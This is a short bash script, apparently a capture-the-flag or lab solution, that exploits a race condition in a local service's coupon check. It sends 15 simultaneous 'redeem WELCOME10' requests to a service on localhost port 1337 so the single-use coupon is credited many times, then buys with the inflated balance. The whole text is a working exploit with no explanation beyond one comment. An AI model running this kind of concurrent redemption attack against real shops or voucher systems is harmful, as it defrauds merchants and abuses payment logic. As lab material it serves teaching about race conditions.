#!/bin/bash
# redeem() checks "already used" and only records the coupon 1 s later: redeem it from 15
# connections at once, then buy.
set -euo pipefail
for _ in $(seq 15); do
  printf 'redeem WELCOME10\n' | socat -t3 - TCP:127.0.0.1:1337 >/dev/null &
done
wait
printf 'balance\nbuy\n' | socat -t3 - TCP:127.0.0.1:1337
